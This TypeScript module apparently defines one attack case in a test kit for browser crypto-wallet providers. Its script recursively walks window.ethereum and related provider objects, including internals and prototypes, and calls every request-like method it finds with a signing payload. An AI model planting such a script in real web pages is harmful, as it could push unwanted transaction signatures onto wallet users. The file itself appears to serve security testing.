import type { Attack } from './kit/attack.ts'

export default {
  family: 'global',
  how: 'Walks from window.ethereum over all properties, prototypes, constructors and descriptors, and calls every request that it finds.',
  script: `
    const seen = new Set()
    const walk = (value, depth) => {
      if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value) || depth > 5) return
      seen.add(value)
      for (const name of ['request', 'send', 'sendAsync', '_rpcRequest']) {
        try {
          if (typeof value[name] === 'function') Promise.resolve(value[name](attack.sign, () => {})).catch(() => {})
        } catch {}
      }
      for (const key of Reflect.ownKeys(value)) {
        try {
          const descriptor = Reflect.getOwnPropertyDescriptor(value, key)
          walk(value[key], depth + 1)
          walk(descriptor?.value, depth + 1)
          walk(descriptor?.get, depth + 1)
        } catch {}
      }
      walk(Object.getPrototypeOf(value), depth + 1)
    }
    for (const name of ['ethereum', 'web3', 'metamask', 'ethereumProvider', 'providers']) walk(window[name], 0)
    for (const name of ['_events', '_state', '_metamask', '_rpcEngine', 'constructor', 'providers', 'currentProvider', 'selectedProvider', 'providerMap', '__proto__']) walk(ethereum[name], 0)
    await attack.sleep(300)
  `,
} satisfies Attack
